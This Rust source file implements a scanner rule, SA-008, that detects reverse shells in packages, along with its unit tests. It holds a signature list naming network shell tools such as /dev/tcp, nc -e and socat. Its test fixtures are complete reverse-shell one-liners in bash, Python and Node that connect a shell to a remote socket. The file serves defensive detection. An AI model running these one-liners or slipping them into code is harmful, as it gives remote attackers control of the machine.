//! `SA-008` reverse shell (threat). Finds a shell wired to a network connection: `bash -i >&
//! /dev/tcp/…`, `nc -e /bin/sh`, a Python socket duplicated onto standard input and output
//! with a shell started, a Node socket piped into `/bin/sh` or `cmd.exe`.
//!
//! Why: it hands the machine to whoever listens. Example: `os.dup2(s.fileno(), 0);
//! pty.spawn("/bin/sh")`. Known false positives: none known in packages; terminal emulators
//! use `pty` without sockets.

use super::{Ctx, Hit, Kind, Rule};
use scioc_model::Behaviour;

pub(crate) const RULE: Rule =
    Rule { id: "SA-008", name: "reverse shell", kind: Kind::Threat, behaviour: Behaviour::Backdoor, weight: 12 };

const TEXT: &[&str] =
    &["/dev/tcp/", " nc -e ", "ncat -e ", "nc.traditional -e", "0<&196;exec 196", "socat exec:", "socat tcp:"];
const SHELLS: &[&str] = &["/bin/sh", "/bin/bash", "cmd.exe", "powershell.exe", "sh", "bash"];

pub(crate) fn check(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
    let f = ctx.facts;
    if let Some((s, line)) = f.strings_with(TEXT).next() {
        out.push(Hit::new(&RULE, *line, s.chars().take(120).collect::<String>()));
        return;
    }
    let socket = f
        .calls_to(&[
            "socket.socket",
            "socket.create_connection",
            "net.connect",
            "net.createConnection",
            "new net.Socket",
        ])
        .next();
    let dup = f.calls_to(&["os.dup2"]).next();
    let shell = f.calls.iter().find(|c| {
        (crate::facts::name_is(&c.name, "pty.spawn") || super::SPAWN.iter().any(|n| crate::facts::name_is(&c.name, n)))
            && c.first.as_deref().is_some_and(|a| SHELLS.contains(&a.trim()))
    });
    // Python: the socket duplicated onto the standard streams and any program started.
    if let (Some(socket), Some(dup)) = (socket, dup)
        && let Some(spawn) = f.calls.iter().find(|c| {
            crate::facts::name_is(&c.name, "pty.spawn")
                || super::SPAWN.iter().any(|n| crate::facts::name_is(&c.name, n))
        })
    {
        out.push(Hit::new(
            &RULE,
            dup.line,
            format!("{} at line {} duplicated onto stdin/stdout, then {}", socket.name, socket.line, spawn.name),
        ));
        return;
    }
    if let (Some(socket), Some(shell)) = (socket, shell)
        && (f.strings_with(&["pipe"]).next().is_some() || f.calls.iter().any(|c| c.name.ends_with(".pipe")))
    {
        out.push(Hit::new(
            &RULE,
            shell.line,
            format!(
                "{} at line {} wired to {}({})",
                socket.name,
                socket.line,
                shell.name,
                shell.first.as_deref().unwrap_or("")
            ),
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::super::fixture::*;

    #[test]
    fn fires_on_shells_over_sockets() {
        assert!(fired("a.sh", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", LIBRARY).contains(&"SA-008"));
        assert!(fired("a.py", "import socket, os, pty\ns=socket.socket()\ns.connect(('h', 1))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n", LIBRARY).contains(&"SA-008"));
        assert!(fired("a.py", "import socket,subprocess,os;s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])\n", LIBRARY).contains(&"SA-008"));
        assert!(fired("a.js", "const net = require('net'); const cp = require('child_process'); const c = new net.Socket(); c.connect(1, 'h', () => { const sh = cp.spawn('/bin/sh', []); c.pipe(sh.stdin); sh.stdout.pipe(c); });", LIBRARY).contains(&"SA-008"));
    }

    #[test]
    fn near_misses() {
        assert!(!fired("a.py", "import pty\npty.spawn('/bin/sh')\n", LIBRARY).contains(&"SA-008"));
        assert!(
            !fired(
                "a.js",
                "const net = require('net'); net.connect(80, 'h'); require('child_process').spawn('git', ['status'])",
                LIBRARY
            )
            .contains(&"SA-008")
        );
    }
}
